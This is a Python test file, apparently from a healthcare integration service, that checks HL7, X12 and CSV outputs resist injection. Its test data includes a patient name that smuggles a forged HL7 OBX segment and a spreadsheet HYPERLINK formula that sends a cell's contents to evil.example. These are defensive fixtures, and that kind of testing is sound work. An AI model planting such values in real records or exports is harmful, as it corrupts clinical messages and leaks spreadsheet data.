"""Text that reaches an HL7 v2, X12 or CSV writer cannot forge structure.

The HL7 proof is on the wire: the outbox relay delivers to a live python-hl7 MLLP
server, and python-hl7 parses what arrived.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import hl7
import pytest
from django.db import transaction
from rest_framework.test import APIClient

from integrations.models import Connector, Message
from integrations.outbox import PATIENT_UPDATED, outbox_enqueue
from integrations.relay import outbox_relay
from integrations.x12.core import nm1
from patients.models import Patient
from tests import factories as f
from tests.integrations.conftest import mllp_server  # noqa: F401 (fixture)
from tests.kpi.dataset import kpi_net  # noqa: F401 (fixture)

from .conftest import bearer

INJECTED = "Ann\rOBX|1|TX|||INJECTED"


@pytest.fixture(autouse=True)
def quick_relay(settings):
    settings.INTEGRATIONS_RETRY_BASE_SECONDS = 0
    settings.INTEGRATIONS_SEND_TIMEOUT = 2
    settings.INTEGRATIONS_KICK_RELAY = False


def _pms(location, port: int) -> Connector:
    return Connector.objects.create(
        name="PMS",
        kind=Connector.Kind.HL7V2_MLLP,
        role=Connector.Role.LOCATION_PMS,
        location=location,
        endpoint=f"127.0.0.1:{port}",
        sending_application="DENPMS",
        sending_facility="DEN",
    )


def _relay() -> None:
    for _ in range(3):
        outbox_relay()


@pytest.mark.django_db(transaction=True)
def test_it_refuses_a_segment_forging_first_name_at_the_api(mllp_server, agent):  # noqa: F811
    server = mllp_server([])
    location = f.location()
    _pms(location, server.port)
    client = APIClient()
    client.credentials(**bearer(agent))

    response = client.post(
        "/api/v1/patients/",
        {
            "first_name": INJECTED,
            "last_name": "Okafor",
            "date_of_birth": "1985-04-12",
            "sex": "F",
            "home_location": location.pk,
        },
        format="json",
    )
    _relay()

    assert response.status_code == 400
    assert response.json()["first_name"] == ["Must be one line of text without control characters."]
    assert not Patient.objects.exists() and server.messages == []


@pytest.mark.django_db(transaction=True)
def test_a_control_character_in_a_stored_name_never_forges_a_segment_on_the_wire(
    mllp_server,  # noqa: F811
):
    """A name that got in by another road (an import, an old row) is escaped by the writer."""
    server = mllp_server([])
    location = f.location()
    _pms(location, server.port)
    patient = f.patient(
        first_name=INJECTED,
        middle_name="O'Neil|^&~\\",
        date_of_birth=date(1985, 4, 12),
        sex="F",
        home_location=location,
    )
    with transaction.atomic():
        outbox_enqueue(
            event_type=PATIENT_UPDATED,
            aggregate_type="patient",
            aggregate_id=patient.pk,
            location_id=location.pk,
        )

    _relay()

    assert Message.objects.get(direction="out").status == "sent"
    [raw] = server.messages
    message = hl7.parse(raw)
    assert [str(segment[0]) for segment in message] == ["MSH", "EVN", "PID", "PV1"]
    assert "OBX" not in {str(segment[0]) for segment in message}
    pid = message.segment("PID")
    assert str(pid(7)) == "19850412" and str(pid(8)) == "F"
    assert message.unescape(str(pid(5)(1)(2))) == INJECTED
    assert message.unescape(str(pid(5)(1)(3))) == "O'Neil|^&~\\"


def test_an_x12_element_cannot_end_its_segment():
    segment = nm1("IL", "1", "DOE~ISA*00\r\nSE", "ANN")
    assert segment.split("*") == ["NM1", "IL", "1", "DOE ISA 00  SE", "ANN"]
    assert "~" not in segment


@pytest.mark.django_db
def test_it_neutralises_formulas_in_kpi_csv_exports(client, admin_user, kpi_net):  # noqa: F811
    from tests.kpi.dataset import PERIOD

    Patient.objects.update(last_name='=HYPERLINK("http://evil.example/?"&A1,"open")')
    client.force_login(admin_user)  # sees the patient column

    response = client.get(f"/kpi/drill/bookings/?{PERIOD.query()}&format=csv")

    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert cells, "the export has rows"
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
